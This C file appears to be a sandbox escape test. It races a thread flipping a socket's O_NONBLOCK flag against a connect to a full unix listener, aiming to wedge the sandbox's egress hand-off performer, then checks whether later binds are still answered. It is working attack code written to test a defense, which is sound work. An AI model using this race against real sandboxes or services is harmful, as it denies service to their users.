// Attack on egress hand-off's performer (src/linux/performer.h), run inside cage with --net by
// tests/escape/net_handoff_wedge.sh: a unix stream connect the supervisor saw as non-blocking runs in
// the performer's own loop; a thread flipping the socket's O_NONBLOCK meanwhile makes the kernel
// treat it as blocking there, and against a listener whose backlog stays full it never returns, so the
// performer would answer nothing again: every later connect, bind and listen of the sandbox waits.
//   handoff_wedge DIR   prints "attempts N" and "answered 1" (a bind after the attack was answered
//                       within 3 s) or "answered 0".
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_un full;
static atomic_int flip_fd = -1, stop_flip, probe_done;

static void* flipper(void* arg) {
  (void)arg;
  while (!atomic_load(&stop_flip)) {
    int s = atomic_load(&flip_fd);
    if (s < 0) continue;
    fcntl(s, F_SETFL, O_NONBLOCK);
    fcntl(s, F_SETFL, 0);
  }
  return NULL;
}
// One connect to the full listener; a hang here is a performer thread's (it holds one of its places).
static void* connector(void* arg) {
  int s = (int)(long)arg;
  connect(s, (struct sockaddr*)&full, sizeof full);
  return NULL;
}
// A bind of a fresh unix socket to an abstract name: run by the performer's own loop.
static void* probe(void* arg) {
  (void)arg;
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "wedge-probe-%d-%ld", getpid(), (long)time(NULL));
  bind(s, (struct sockaddr*)&a, sizeof a);
  atomic_store(&probe_done, 1);
  return NULL;
}
static int answered(void) {
  atomic_store(&probe_done, 0);
  pthread_t t;
  pthread_create(&t, NULL, probe, NULL);
  pthread_detach(t);
  for (int i = 0; i < 300 && !atomic_load(&probe_done); ++i) usleep(10000);
  return atomic_load(&probe_done);
}

int main(int argc, char** argv) {
  if (argc != 2) return fprintf(stderr, "usage: handoff_wedge DIR\n"), 2;
  alarm(60);
  full.sun_family = AF_UNIX;
  snprintf(full.sun_path, sizeof full.sun_path, "%s/full.sock", argv[1]);
  unlink(full.sun_path);
  int l = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(l, (struct sockaddr*)&full, sizeof full) != 0 || listen(l, 0) != 0) return perror("listener"), 1;
  int first = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);  // the backlog of 0 holds one: full now
  if (connect(first, (struct sockaddr*)&full, sizeof full) != 0) return perror("first connect"), 1;
  if (!answered()) return fprintf(stderr, "no answer before the attack\n"), 1;
  pthread_t f;
  pthread_create(&f, NULL, flipper, NULL);
  int attempts = 0, ok = 1;
  for (; attempts < 200 && ok; ++attempts) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    atomic_store(&flip_fd, s);
    pthread_t c;
    pthread_create(&c, NULL, connector, (void*)(long)s);
    pthread_detach(c);
    usleep(20000);
    atomic_store(&flip_fd, -1);
    ok = answered();
  }
  atomic_store(&stop_flip, 1);
  pthread_join(f, NULL);
  printf("attempts %d\nanswered %d\n", attempts, ok);
  fflush(stdout);
  _exit(0);  // threads still waiting in connect() end with the process
}
